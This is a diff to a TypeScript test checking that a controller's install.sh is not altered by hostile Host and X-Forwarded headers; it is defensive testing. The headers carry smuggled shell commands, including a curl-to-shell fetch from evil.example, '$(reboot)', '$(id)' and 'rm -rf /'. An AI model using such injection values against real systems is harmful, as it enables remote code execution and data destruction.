@@ -65,12 +65,13 @@ describe("install script served by the controller", () => {
     const get = (headers: Record<string, string>) => rawGet(`${ctl.httpUrl}/install.sh`, { ca: ctl.security.trust.ca.certPem, headers });
     const baseline = await get({});
     expect(baseline.status).toBe(200);
-    for (const headers of [
+    const hostile: Array<Record<string, string>> = [
       { host: "evil.example:443", "x-forwarded-proto": "http", "x-forwarded-host": "evil.example" },
       { host: "x';curl evil.example|sh;'", "x-forwarded-proto": "https" },
       { host: "$(reboot):80", "x-forwarded-proto": "'$(id)'", "x-forwarded-for": "203.0.113.9" },
       { host: "`touch /tmp/pwned`", "x-forwarded-proto": "http; rm -rf /" },
-    ]) {
+    ];
+    for (const headers of hostile) {
       const r = await get(headers);
       expect(r.status, JSON.stringify(headers)).toBe(200);
       expect(r.body.equals(baseline.body), JSON.stringify(headers)).toBe(true);
